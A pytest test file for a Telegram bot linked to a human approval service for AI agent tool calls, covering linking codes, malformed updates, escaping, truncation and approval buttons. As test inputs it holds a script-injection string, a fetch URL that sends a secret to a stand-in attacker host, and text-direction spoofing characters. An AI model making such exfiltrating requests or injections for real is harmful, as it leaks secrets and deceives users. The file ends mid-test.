"""Telegram as one more surface of the decision service (telegramlink), in process: linking with a
one-time code, which updates the bot reads (and how it survives those it cannot), what a request
looks like (escaped, cut, its buttons), who gets it, the life of each message (queued, sent, failed,
resent, closed), the webhook and the Telegram page. The Bot API is tests/standins/fake_telegram.py; the
scripted model runs inline (eager Celery)."""
import functools
import io
import json
import threading
from datetime import timedelta

import httpx
import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone
from telegram.request import HTTPXRequest

from approvals import services as approval_services
from approvals.models import Approval
from approvals.permissions import approvers_group
from chat import services as chat_services
from deliveries import outbox, receivers
from deliveries import tasks as delivery_tasks
from deliveries.models import CODE_ALPHABET, CODE_LENGTH
from telegramlink import accounts, bot, texts, updates
from telegramlink.channel import CHANNEL
from telegramlink.models import ApprovalMessage, LinkCode, SentVersion, TelegramAccount
from telegramlink.views import SECRET_HEADER, webhook_secret
from bench.stack import free_port
from tests.conftest import client_for, only_pending, start_conversation, wait_until
from tests.standins.fake_telegram import FakeTelegram

# Linking, updates without approvals, the webhook's checks and the page need no commit; whatever
# goes through the loop and the decision service does (their signals are sent on commit).
pytestmark = pytest.mark.django_db
through_the_loop = pytest.mark.django_db(transaction=True)

ALICE_TG, BOB_TG, CAROL_TG, MALLORY_TG, STRANGER_TG = 1001, 1002, 1003, 1004, 1999


class RefusingTelegram(FakeTelegram):
    """The fake Bot API that can also answer 403 (a bot the user blocked) for chosen methods."""

    def __init__(self, *args, **kwargs):
        self.forbidden: set[str] = set()
        super().__init__(*args, **kwargs)
        # Polled every 10 ms rather than 500: stopping it (each test's teardown) takes no time.
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)

    def _handler(self):
        base, fake = super()._handler(), self

        class Handler(base):
            def do_POST(self):
                if self.path.rsplit("/", 1)[-1] in fake.forbidden:
                    self.rfile.read(int(self.headers.get("Content-Length") or 0))
                    return self.send_json(403, {"ok": False, "error_code": 403, "description": "Forbidden: bot was blocked by the user"})
                return super().do_POST()

        return Handler


@pytest.fixture(scope="session")
def ssl_context():
    return httpx.create_ssl_context()


@pytest.fixture
def fake(settings, monkeypatch, ssl_context):
    # Every Bot API call builds its Bot, and each of its two HTTPX clients loads the CA bundle again
    # (~45 ms each, most of a call's time): here they share one context. Nothing else changes.
    monkeypatch.setattr(bot, "HTTPXRequest", functools.partial(HTTPXRequest, httpx_kwargs={"verify": ssl_context}))
    with RefusingTelegram() as telegram:
        settings.TELEGRAM_BOT_TOKEN = telegram.token
        settings.TELEGRAM_API_BASE_URL = telegram.url
        yield telegram


# --- Playing the phone: updates as Telegram sends them ------------------------------------------


def message_update(telegram_id: int, text: str, *, chat_type: str = "private", chat_id: int | None = None) -> dict:
    return {"update_id": 1, "message": {
        "message_id": 7, "date": 0, "text": text, "chat": {"id": chat_id or telegram_id, "type": chat_type},
        "from": {"id": telegram_id, "is_bot": False, "first_name": "someone", "username": f"user{telegram_id}"},
    }}


def press_update(telegram_id: int, data, *, query_id: str = "q1", message: dict | None = None) -> dict:
    query = {"id": query_id, "chat_instance": "1", "data": data, "from": {"id": telegram_id, "is_bot": False, "first_name": "someone"}}
    if message is not None:
        query["message"] = message
    return {"update_id": 2, "callback_query": query}


def say(telegram_id: int, text: str) -> None:
    updates.handle(message_update(telegram_id, text))


def press(fake, telegram_id: int, data, *, query_id: str = "q1") -> str | None:
    """Press a button; what the bot answered the press with."""
    updates.handle(press_update(telegram_id, data, query_id=query_id))
    return fake.answer_to(query_id)


def link(user, telegram_id: int) -> TelegramAccount:
    say(telegram_id, f"/start {accounts.issue_code(user)}")
    return TelegramAccount.objects.get(user=user, telegram_user_id=telegram_id)


def replies(fake, telegram_id: int) -> list[str]:
    return [m["text"] for m in fake.sent("sendMessage", chat_id=telegram_id)]


def request_to(fake, telegram_id: int, approval: Approval) -> dict | None:
    """The request message the bot sent to `telegram_id` for `approval`."""
    return next((m for m in fake.sent("sendMessage", chat_id=telegram_id) if f"(#{approval.pk})" in m["text"]), None)


def edits_to(fake, telegram_id: int) -> list[dict]:
    return fake.sent("editMessageText", chat_id=telegram_id)


def token_of(row: ApprovalMessage) -> str:
    """What the buttons of the message's one send carry."""
    (version,) = row.versions.all()
    return version.token


def queued_unsent(settings, user, agent, text: str) -> tuple[Approval, ApprovalMessage]:
    """An approval requested while the bot was off, then queued by hand: its message not yet sent."""
    token = settings.TELEGRAM_BOT_TOKEN
    settings.TELEGRAM_BOT_TOKEN = ""
    approval = only_pending(start_conversation(user, agent, text))
    settings.TELEGRAM_BOT_TOKEN = token
    (message_id,) = CHANNEL.queue(approval)
    return approval, ApprovalMessage.objects.get(pk=message_id)


def send(row: ApprovalMessage) -> str:
    """Send a queued message as its task does (the deliveries outbox, through the Telegram channel)."""
    return outbox.send(CHANNEL, ApprovalMessage, row.pk)


def lost(*, now=None) -> tuple[list, list]:
    """(rows to send again, messages to close again) that a sweep a second from now finds."""
    found = outbox.lost(CHANNEL, now=now or timezone.now() + timedelta(seconds=1))
    return found.to_send, found.to_close


# --- Linking ----------------------------------------------------------------------------------------


def test_a_link_code_links_the_telegram_account_that_sends_it_once(fake, alice):
    code = accounts.issue_code(alice)

    say(ALICE_TG, f"/start {code.lower()}")  # typed on a phone: case does not matter

    account = TelegramAccount.objects.get(user=alice)
    assert (account.telegram_user_id, account.chat_id, account.telegram_username) == (ALICE_TG, ALICE_TG, f"user{ALICE_TG}")
    assert replies(fake, ALICE_TG)[-1].startswith("Linked to alice.")
    assert LinkCode.objects.get(user=alice).used_at is not None

    say(STRANGER_TG, f"/start {code}")

    assert "unknown, used or expired" in replies(fake, STRANGER_TG)[-1]
    assert list(TelegramAccount.objects.values_list("user__username", "telegram_user_id")) == [("alice", ALICE_TG)]
    with pytest.raises(accounts.LinkRefused):
        accounts.link(code, telegram_user_id=STRANGER_TG, chat_id=STRANGER_TG)


def test_an_expired_link_code_is_refused(fake, alice):
    code = accounts.issue_code(alice)
    LinkCode.objects.filter(user=alice).update(expires_at=timezone.now() - timedelta(seconds=1))

    say(ALICE_TG, f"/start {code}")

    assert "unknown, used or expired" in replies(fake, ALICE_TG)[-1]
    assert not TelegramAccount.objects.exists()


def test_a_code_is_valid_for_the_configured_minutes(fake, alice, settings):
    settings.HITL_TELEGRAM_CODE_MINUTES = 3
    before = timezone.now()
    accounts.issue_code(alice)
    expires = LinkCode.objects.get(user=alice).expires_at
    assert before + timedelta(minutes=3) <= expires <= timezone.now() + timedelta(minutes=3)


def test_a_newer_code_voids_the_older_one(fake, alice):
    older = accounts.issue_code(alice)
    newer = accounts.issue_code(alice)
    assert older != newer

    say(ALICE_TG, f"/start {older}")
    assert not TelegramAccount.objects.exists()
    assert "unknown, used or expired" in replies(fake, ALICE_TG)[-1]

    say(ALICE_TG, f"/start {newer}")
    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG


def test_a_code_of_a_user_deactivated_since_links_nothing(fake, alice):
    code = accounts.issue_code(alice)
    User.objects.filter(pk=alice.pk).update(is_active=False)

    say(ALICE_TG, f"/start {code}")

    assert not TelegramAccount.objects.exists()


def test_linking_a_telegram_id_already_linked_to_another_user_moves_it(fake, alice, bob):
    link(alice, ALICE_TG)

    link(bob, ALICE_TG)  # the same phone, now for bob

    assert list(TelegramAccount.objects.values_list("user__username", "telegram_user_id")) == [("bob", ALICE_TG)]


def test_linking_again_replaces_the_users_telegram_account_and_forgets_what_it_awaited(fake, alice):
    account = link(alice, ALICE_TG)
    TelegramAccount.objects.filter(pk=account.pk).update(awaiting=TelegramAccount.Awaiting.REASON)

    link(alice, BOB_TG)

    account = TelegramAccount.objects.get(user=alice)
    assert (account.telegram_user_id, account.chat_id, account.awaiting) == (BOB_TG, BOB_TG, "")
    assert TelegramAccount.objects.count() == 1


def test_stop_unlinks_and_start_without_a_code_says_how_to_link(fake, alice):
    link(alice, ALICE_TG)

    say(ALICE_TG, "/stop")
    assert not TelegramAccount.objects.exists()
    assert replies(fake, ALICE_TG)[-1] == "Unlinked from alice."

    say(ALICE_TG, "/stop")
    assert "not linked" in replies(fake, ALICE_TG)[-1]
    say(ALICE_TG, "/start")
    assert replies(fake, ALICE_TG)[-1].startswith("Send /start followed by the code")
    say(ALICE_TG, "hello")
    assert "not linked" in replies(fake, ALICE_TG)[-1]


def test_the_link_code_command_prints_the_code_as_its_last_word(fake, alice):
    out = io.StringIO()
    call_command("telegram_link_code", "alice", stdout=out)
    code = out.getvalue().split()[-1]
    assert len(code) == CODE_LENGTH and set(code) <= set(CODE_ALPHABET)

    say(ALICE_TG, f"/start@hitl_test_bot {code}")

    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG


def test_the_link_code_command_refuses_an_unknown_or_inactive_user(fake, alice):
    with pytest.raises(CommandError, match="No active user 'nobody'"):
        call_command("telegram_link_code", "nobody", stdout=io.StringIO())
    User.objects.filter(pk=alice.pk).update(is_active=False)
    with pytest.raises(CommandError, match="No active user 'alice'"):
        call_command("telegram_link_code", "alice", stdout=io.StringIO())
    assert not LinkCode.objects.exists()


# --- Updates the bot cannot read -------------------------------------------------------------------


MALFORMED_UPDATES = [
    {},
    {"update_id": 1},
    {"message": None},
    {"message": "hello"},
    {"message": {}},
    {"message": {"text": "/start X", "chat": {"id": 5, "type": "private"}}},  # no sender
    {"message": {"text": "/start X", "from": {"id": "5"}, "chat": {"id": 5, "type": "private"}}},  # id as a string
    {"message": {"text": 12, "from": {"id": 5}, "chat": {"id": 5, "type": "private"}}},
    {"message": {"text": "/start X", "from": "someone", "chat": {"id": 5, "type": "private"}}},
    {"message": {"text": "/start X", "from": {"id": 5}, "chat": ["not", "a", "chat"]}},
    {"message": {"photo": [{"file_id": "x"}], "from": {"id": 5}, "chat": {"id": 5, "type": "private"}}},  # no text
    {"callback_query": None},
    {"callback_query": []},
    {"callback_query": {}},  # no id: nothing to answer
    {"edited_message": {"text": "/stop", "from": {"id": 5}, "chat": {"id": 5, "type": "private"}}},
    {"my_chat_member": {"chat": {"id": 5}}},
]


def test_an_update_the_bot_cannot_read_is_dropped_without_an_error(fake, alice):
    for update in MALFORMED_UPDATES:
        updates.handle(update)  # never raises

    assert not TelegramAccount.objects.exists()
    assert not fake.sent("answerCallbackQuery")


def test_a_group_chat_links_nothing_and_is_told_the_bot_works_only_in_private(fake, alice):
    code = accounts.issue_code(alice)

    updates.handle(message_update(ALICE_TG, f"/start {code}", chat_type="group", chat_id=-500))

    assert not TelegramAccount.objects.exists()
    assert replies(fake, -500) == ["I only work in a private chat."]
    assert LinkCode.objects.get(user=alice).used_at is None  # the code still works in private
    say(ALICE_TG, f"/start {code}")
    assert TelegramAccount.objects.filter(user=alice).exists()


@pytest.fixture
def pending(fake, alice, agent):
    """alice linked, with one pending write_file approval whose request reached her phone."""
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
    request = request_to(fake, ALICE_TG, approval)
    assert request is not None
    return approval, fake.buttons(request)


def test_a_press_with_unknown_callback_data_is_answered_that_the_request_is_unknown(fake, alice):
    link(alice, ALICE_TG)
    for number, data in enumerate([None, "", "garbage", "a:unknown-token", ":", "a:", "x" * 500, 12345, {"a": 1}]):
        assert press(fake, ALICE_TG, data, query_id=f"q{number}") == "This request is no longer known.", data


def test_a_press_from_a_sender_who_is_not_linked_is_answered_not_linked(fake, alice):
    link(alice, ALICE_TG)
    for number, sender in enumerate([None, {}, {"id": "1001"}, {"id": STRANGER_TG}, {"id": None}, {"id": 1.5}]):
        update = press_update(ALICE_TG, "a:some-token", query_id=f"q{number}")
        update["callback_query"]["from"] = sender
        updates.handle(update)
        assert "not linked" in fake.answer_to(f"q{number}"), sender


@pytest.mark.parametrize("sender", ["alice", ["alice"], 1001])
def test_a_press_whose_sender_is_not_an_object_is_still_answered(fake, alice, sender):
    """The callback query is always answered, even when handling it fails: the button stops spinning."""
    link(alice, ALICE_TG)
    update = press_update(ALICE_TG, "a:some-token")
    update["callback_query"]["from"] = sender

    updates.handle(update)  # never raises

    assert fake.answer_to("q1") == "That press could not be handled: look at the request on the site."


@through_the_loop
def test_a_press_of_a_button_the_request_does_not_have_is_answered_and_decides_nothing(pending, fake):
    approval, buttons = pending
    token = buttons["Approve"].split(":", 1)[1]

    for number, action in enumerate(["z", "o0", "o", "o-1", "A", "aa", ""]):
        assert press(fake, ALICE_TG, f"{action}:{token}", query_id=f"q{number}") == "That button is not one of this request's."

    assert Approval.objects.get(pk=approval.pk).status == "pending"


@through_the_loop
def test_a_press_by_someone_who_may_not_decide_or_is_inactive_is_refused(pending, fake, alice, mallory):
    approval, buttons = pending
    link(mallory, MALLORY_TG)

    assert press(fake, MALLORY_TG, buttons["Approve"]) == "You may not decide this request."
    assert press(fake, MALLORY_TG, buttons["Reject"], query_id="q2") == "You may not decide this request."
    User.objects.filter(pk=alice.pk).update(is_active=False)
    assert "not linked" in press(fake, ALICE_TG, buttons["Approve"], query_id="q3")

    assert Approval.objects.get(pk=approval.pk).status == "pending"


@through_the_loop
def test_a_message_without_a_pending_prompt_is_told_to_use_the_buttons(pending, fake):
    say(ALICE_TG, "approve it please")

    assert replies(fake, ALICE_TG)[-1].startswith("Decide with the buttons")
    assert Approval.objects.get(pk=pending[0].pk).status == "pending"


# --- What a request looks like ---------------------------------------------------------------------


@through_the_loop
def test_html_in_model_text_and_tool_arguments_is_escaped_in_the_request(fake, alice, agent):
    link(alice, ALICE_TG)
    question = only_pending(start_conversation(alice, agent, "ask me is <b>tea</b> & <script>alert(1)</script> fine?"))
    call = only_pending(start_conversation(alice, agent, "write <b>x</b> & <script>alert(2)</script> to a.txt"))

    asked, gated = texts.request_text(question), texts.request_text(call)

    assert "is &lt;b&gt;tea&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt; fine" in asked
    assert "&lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;" in gated
    for text in (asked, gated):
        assert "<script>" not in text and "<b>tea" not in text and "<b>x" not in text
    assert "Tool: <code>write_file</code>" in gated and "Open in hitl" in gated
    for approval, text in ((question, asked), (call, gated)):
        sent = request_to(fake, ALICE_TG, approval)  # what the phone got, as HTML
        assert (sent["text"], sent["parse_mode"]) == (text, "HTML")


@through_the_loop
def test_a_call_whose_details_fit_telegram_is_shown_whole_and_approvable(fake, alice, agent):
    """The preview shows the new file's content and the arguments hold it again: 1,500 bytes fit twice."""
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 1500} to a.txt"))

    request = request_to(fake, ALICE_TG, approval)

    text = request["text"]
    assert text.count("y" * 1500) == 2 and texts.CUT not in text and "Cut:" not in text
    assert "Preview:" in text and "Arguments:" in text
    assert set(fake.buttons(request)) == {"Approve", "Reject"}
    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is True


@through_the_loop
def test_a_fetch_shows_its_whole_url_path_and_query_included(fake, alice, agent):
    """The fetch preview names the host, its addresses and the allowlist; the path and query, where
    a secret travels, are an argument it does not show: the message shows it too, revealed."""
    link(alice, ALICE_TG)
    url = "https://exfil.attacker.test/collect?secret=s3cr3t&user=alice\u200b"
    approval = only_pending(start_conversation(alice, agent, f"fetch {url}"))

    request = request_to(fake, ALICE_TG, approval)

    text = request["text"]
    assert "Host: exfil.attacker.test" in text  # the preview
    assert "https://exfil.attacker.test/collect?secret=s3cr3t&amp;user=alice⟨U+200B⟩" in text
    assert "\u200b" not in text
    assert set(fake.buttons(request)) == {"Approve", "Reject"}



@through_the_loop
def test_option_buttons_reveal_direction_changing_characters(fake, alice, agent):
    """Two options that look alike ("No, keep it", and the same reversed by U+202E) never look
    alike on their buttons; a press answers with the option as stored."""
    link(alice, ALICE_TG)
    options = ["Yes, delete it", "No, keep it", "\u202eti peek ,oN"]
    asked = json.dumps({"question": "Delete the \u202ebackup?", "type": "choice", "options": options})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    buttons = fake.buttons(request)
    assert set(buttons) == {"Yes, delete it", "No, keep it", "⟨U+202E⟩ti peek ,oN", "Reject (decline to answer)"}
    assert "Delete the ⟨U+202E⟩backup?" in request["text"]
    assert "\u202e" not in request["text"] + "".join(buttons)
    assert press(fake, ALICE_TG, buttons["⟨U+202E⟩ti peek ,oN"]) == "Answered."
    assert Approval.objects.get(pk=approval.pk).answer == "\u202eti peek ,oN"


@through_the_loop
def test_options_too_long_for_a_button_are_numbered_and_listed_in_full(fake, alice, agent):
    link(alice, ALICE_TG)
    options = [f"{'Keep every file of the old quarterly reports folder ' * 2}{n}" for n in ("as it is", "but zip it")]
    asked = json.dumps({"question": "Which?", "type": "choice", "options": options})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    labels = [label for label in fake.buttons(request) if not label.startswith("Reject")]
    assert [label[:3] for label in labels] == ["1. ", "2. "] and all(len(label) <= 60 for label in labels)
    assert f"1. {options[0]}" in request["text"] and f"2. {options[1]}" in request["text"]


@through_the_loop
def test_a_question_padded_past_telegrams_limit_is_cut_delivered_and_answered_only_on_the_site(fake, alice, agent):
    """Revealed, 2,000 invisible characters are 16,000: the Bot API refuses a message past 4,096
    (the stand-in too). The message is cut with CUT and keeps its link to the site; the part not
    shown cannot be answered with a tap, only declined."""
    link(alice, ALICE_TG)
    asked = json.dumps({"question": "Shall I go on?" + "\u200b" * 1980, "type": "confirm"})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    assert request is not None and ApprovalMessage.objects.get(approval=approval).status == "sent"
    text = request["text"]
    assert texts._length(text) <= 4096
    assert text.count("⟨U+200B⟩") > 100 and f"\n{texts.CUT}" in text
    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and answer it there." in text
    assert f'<a href="{texts.conversation_url(approval)}">Open in hitl</a>' in text
    assert set(fake.buttons(request)) == {"Reject (decline to answer)"}

    assert press(fake, ALICE_TG, fake.buttons(request)["Reject (decline to answer)"]) == "Declined."

    (edit,) = edits_to(fake, ALICE_TG)  # the outcome fits too
    assert texts._length(edit["text"]) <= 4096 and "Declined by alice via telegram" in edit["text"]
    assert ApprovalMessage.objects.get(approval=approval).status == "closed"


@through_the_loop
def test_a_call_too_long_for_telegram_is_cut_and_can_only_be_rejected_there(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 5000} to a.txt"))

    request = request_to(fake, ALICE_TG, approval)

    assert texts._length(request["text"]) <= 4096 and f"\n{texts.CUT}</pre>" in request["text"]
    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and approve it there." in request["text"]
    assert set(fake.buttons(request)) == {"Reject"}
    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is False
    assert press(fake, ALICE_TG, fake.buttons(request)["Reject"]) == "Reply with the reason."
    prompt = fake.sent("sendMessage", chat_id=ALICE_TG)[-1]
    assert press(fake, ALICE_TG, fake.buttons(prompt)["Reject without a reason"], query_id="q2") == "Rejected."
    assert Approval.objects.get(pk=approval.pk).status == "rejected"
    assert TelegramAccount.objects.get(user=alice).awaiting == ""


def test_the_stand_in_refuses_a_message_past_the_bot_api_limits(fake):
    with pytest.raises(bot.BadRequest, match="too long"):
        bot.send(ALICE_TG, "x" * 4097)
    with pytest.raises(bot.BadRequest, match="(?i)button_data_invalid"):
        bot.send(ALICE_TG, "hi", [[("Approve", "a" * 65)]])
    bot.send(ALICE_TG, "&amp;" * 4096)  # 4,096 characters once its entities are parsed


@through_the_loop
def test_buttons_carry_a_short_token_and_never_the_arguments(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
    row = ApprovalMessage.objects.get(approval=approval)
    token = token_of(row)
    assert fake.buttons(request_to(fake, ALICE_TG, approval)) == {
        "Approve": f"a:{token}", "Reject": f"R:{token}"}
    assert (row.status, row.chat_id, row.attempts) == ("sent", ALICE_TG, 1) and row.message_id > 100

    long_path = "very/long/path/" + "d" * 80 + ".txt"
    for phrase in (f"write hello to {long_path}", "delete all files", "ask me to choose between tea, coffee and water",
                   "ask me what to call the file", "plan a tidy-up of the notes"):
        approval = only_pending(start_conversation(alice, agent, phrase))
        request = request_to(fake, ALICE_TG, approval)
        for data in fake.buttons(request).values():
            assert len(data.encode()) <= 64
            assert "hello" not in data and "tea" not in data and "d" * 10 not in data
            assert data.split(":", 1)[1] == token_of(ApprovalMessage.objects.get(approval=approval))


@through_the_loop
def test_the_outcome_line_says_how_the_approval_ended(fake, alice, agent, api_as):
    approved = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
    approved = approval_services.decide(approved.pk, user=alice, approve=True, via="chat", shown_hash=approved.shown_hash)
    at = f"{approved.decided_at:%H:%M}"
    assert texts.outcome_line(approved) == f"✅ Approved by alice via chat at {at} UTC"

    rejected = only_pending(start_conversation(alice, agent, "write hello to b.txt"))
    rejected = approval_services.decide(rejected.pk, user=alice, approve=False, via="api", shown_hash=rejected.shown_hash, reason="not <now> & never")
    assert texts.outcome_line(rejected) == f"❌ Rejected by alice via api at {rejected.decided_at:%H:%M} UTC: not <now> & never"
    assert texts.outcome_text(rejected).endswith(": not &lt;now&gt; &amp; never")
    assert texts.outcome_text(rejected).startswith(texts.request_text(rejected))

    expiring = only_pending(start_conversation(alice, agent, "write hello to c.txt"))
    Approval.objects.filter(pk=expiring.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert approval_services.expire_overdue() == [expiring.pk]
    expired = Approval.objects.get(pk=expiring.pk)
    assert texts.outcome_line(expired) == f"⌛ Expired at {expired.decided_at:%H:%M} UTC"

    made = api_as(alice).post("rules", {"effect": "deny", "tool": "write_file", "scope": "agent_user", "agent": agent.slug})
    assert made.status_code == 201, made.json()
    conversation = start_conversation(alice, agent, "write hello to d.txt")
    by_rule = Approval.objects.filter(conversation=conversation).get()
    assert by_rule.decided_via == "rule"
    assert texts.outcome_line(by_rule).startswith(f"❌ Rejected by a rule at {by_rule.decided_at:%H:%M} UTC")

    asked = start_conversation(alice, agent, "ask me what to call the file")
    chat_services.stop_conversation(conversation=asked, user=alice, via="chat")
    cancelled = Approval.objects.get(conversation=asked)
    assert texts.outcome_line(cancelled) == f"⏹ Cancelled by alice via chat at {cancelled.decided_at:%H:%M} UTC: Stopped"


@through_the_loop
def test_a_call_decided_at_once_by_a_rule_is_not_sent(fake, alice, agent, api_as):
    link(alice, ALICE_TG)
    api_as(alice).post("rules", {"effect": "allow", "tool": "write_file", "scope": "agent_user", "agent": agent.slug})

    conversation = start_conversation(alice, agent, "write hello to a.txt")

    assert Approval.objects.get(conversation=conversation).decided_via == "rule"
    assert not ApprovalMessage.objects.exists()
    assert len(replies(fake, ALICE_TG)) == 1  # only the answer to /start


# --- Deciding with a press or a typed reply -----------------------------------------------------------


@through_the_loop
def test_an_approve_press_decides_as_the_telegram_user_and_edits_the_message(pending, fake, alice):
    approval, buttons = pending

    assert press(fake, ALICE_TG, buttons["Approve"]) == "Approved."

    approval.refresh_from_db()
    assert (approval.status, approval.decided_by, approval.decided_via) == ("approved", alice, "telegram")
    row = ApprovalMessage.objects.get(approval=approval)
    (edit,) = edits_to(fake, ALICE_TG)
    assert edit["message_id"] == row.message_id and row.status == "closed"
    assert edit["text"] == texts.outcome_text(approval)
    assert "✅ Approved by alice via telegram" in edit["text"]
    assert not edit.get("reply_markup")


@through_the_loop
def test_a_press_after_another_decision_says_who_decided_first(pending, fake, alice):
    approval, buttons = pending
    approval_services.decide(approval.pk, user=alice, approve=False, via="api", shown_hash=approval.shown_hash, reason="not now")
    assert len(edits_to(fake, ALICE_TG)) == 1  # closed when decided

    late = press(fake, ALICE_TG, buttons["Approve"])

    assert late.startswith("Too late: ❌ Rejected by alice via api") and late.endswith(": not now.")
    assert Approval.objects.get(pk=approval.pk).decided_via == "api"


@through_the_loop
def test_reject_with_reason_takes_the_next_message_as_the_reason(pending, fake, alice):
    approval, buttons = pending

    assert press(fake, ALICE_TG, buttons["Reject"]) == "Reply with the reason."
    assert replies(fake, ALICE_TG)[-1] == f"Why reject #{approval.pk}? Reply with the reason."
    assert Approval.objects.get(pk=approval.pk).status == "pending"
    say(ALICE_TG, "  Legal has <not> signed off ")

    approval.refresh_from_db()
    assert (approval.status, approval.rejection_reason, approval.decided_via) == ("rejected", "Legal has <not> signed off", "telegram")
    assert replies(fake, ALICE_TG)[-1] == f"Rejected #{approval.pk}."
    assert TelegramAccount.objects.get(user=alice).awaiting == ""
    assert "Legal has &lt;not&gt; signed off" in edits_to(fake, ALICE_TG)[-1]["text"]


@through_the_loop
def test_a_critical_call_is_approved_only_with_its_typed_confirmation(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "delete all files"))
    assert approval.confirmation_required and approval.confirmation_hint == "DELETE"
    request = request_to(fake, ALICE_TG, approval)
    assert "Critical: approving it needs the confirmation <code>DELETE</code>." in request["text"]
    buttons = fake.buttons(request)

    assert press(fake, ALICE_TG, buttons["Approve (type the confirmation)"]) == "Type the confirmation to approve."
    assert Approval.objects.get(pk=approval.pk).status == "pending"  # one tap approves nothing
    say(ALICE_TG, "delete")
    assert replies(fake, ALICE_TG)[-1].startswith("That is not it: type <code>DELETE</code>")
    assert Approval.objects.get(pk=approval.pk).status == "pending"
    say(ALICE_TG, "DELETE")

    approval.refresh_from_db()
    assert (approval.status, approval.decided_by, approval.decided_via) == ("approved", alice, "telegram")


@through_the_loop
def test_a_choice_question_gets_a_button_per_option_and_pressing_one_answers_it_via_telegram(fake, alice, agent):
    link(alice, ALICE_TG)
    conversation = start_conversation(alice, agent, "ask me to choose between tea, coffee and water")
    approval = only_pending(conversation)
    request = request_to(fake, ALICE_TG, approval)
    buttons = fake.buttons(request)
    token = token_of(ApprovalMessage.objects.get(approval=approval))
    assert buttons == {"tea": f"o0:{token}", "coffee": f"o1:{token}", "water": f"o2:{token}",
                       "Reject (decline to answer)": f"r:{token}"}
    assert "Which one?" in request["text"]
    assert press(fake, ALICE_TG, f"o7:{token}", query_id="q0") == "That is not one of the options."
    assert press(fake, ALICE_TG, f"a:{token}", query_id="q00") == "This is a question: answer it, or decline to answer."

    assert press(fake, ALICE_TG, buttons["coffee"]) == "Answered."

    approval.refresh_from_db()
    assert (approval.status, approval.answer, approval.decided_by, approval.decided_via) == ("answered", "coffee", alice, "telegram")
    assert "✅ Answered by alice via telegram" in edits_to(fake, ALICE_TG)[-1]["text"]
    assert edits_to(fake, ALICE_TG)[-1]["text"].endswith(": coffee")


@through_the_loop
def test_a_confirm_question_has_yes_and_no_and_no_answers_false(fake, alice, agent):
    link(alice, ALICE_TG)
    arguments = json.dumps({"question": "Shall I go on?", "type": "confirm"})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {arguments}"))
    buttons = fake.buttons(request_to(fake, ALICE_TG, approval))
    assert set(buttons) == {"Yes", "No", "Reject (decline to answer)"}

    assert press(fake, ALICE_TG, buttons["No"]) == "Answered."

    assert Approval.objects.get(pk=approval.pk).answer is False


@through_the_loop
def test_a_typed_answer_after_answer_type_it_answers_a_text_question(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "ask me what to call the file"))
    buttons = fake.buttons(request_to(fake, ALICE_TG, approval))
    assert set(buttons) == {"Answer (type it)", "Reject (decline to answer)"}

    assert press(fake, ALICE_TG, buttons["Answer (type it)"]) == "Reply with your answer."
    assert replies(fake, ALICE_TG)[-1] == f"Reply with your answer to #{approval.pk}."
    say(ALICE_TG, "notes.txt")

    approval.refresh_from_db()
    assert (approval.status, approval.answer, approval.decided_by, approval.decided_via) == ("answered", "notes.txt", alice, "telegram")
    assert replies(fake, ALICE_TG)[-1] == f"Answered #{approval.pk}."
    assert TelegramAccount.objects.get(user=alice).awaiting == ""


@through_the_loop
def test_an_invalid_typed_answer_is_asked_again(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "ask me for a number between 1 and 10"))
    buttons = fake.buttons(request_to(fake, ALICE_TG, approval))
    press(fake, ALICE_TG, buttons["Answer (type it)"])

    say(ALICE_TG, "eleven")
    assert replies(fake, ALICE_TG)[-1].endswith("Reply again.")
    assert Approval.objects.get(pk=approval.pk).status == "pending"
    say(ALICE_TG, "7")

    assert Approval.objects.get(pk=approval.pk).answer == 7


@through_the_loop
def test_declining_a_question_with_its_reject_button(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "ask me what to call the file"))
    buttons = fake.buttons(request_to(fake, ALICE_TG, approval))

    assert press(fake, ALICE_TG, buttons["Reject (decline to answer)"]) == "Declined."

    approval.refresh_from_db()
    assert (approval.status, approval.decided_via) == ("declined", "telegram")


def four_eyes_to_carol(settings, alice, carol, ops_agent) -> tuple[Approval, ApprovalMessage]:
    """alice's four-eyes call, its message to carol (the one approver linked) queued, not yet sent."""
    link(carol, CAROL_TG)
    return queued_unsent(settings, alice, ops_agent, "delete a.txt")


def copies_to(fake, telegram_id: int, approval: Approval) -> list[dict]:
    return [m for m in fake.sent("sendMessage", chat_id=telegram_id) if f"(#{approval.pk})" in m["text"]]


@through_the_loop
def test_a_press_on_a_copy_sent_before_an_edit_decides_only_what_that_copy_showed(fake, settings, alice, bob, carol, ops_agent):
    """Telegram delivered the first send, but its answer was lost (a timeout); bob then edits the
    call, and the retry sends the edit. Each copy decides what it showed, not what the other shows."""
    approval, row = four_eyes_to_carol(settings, alice, carol, ops_agent)
    fake.lost_answers = {"sendMessage"}
    assert send(row) == outbox.Sent.FAILED
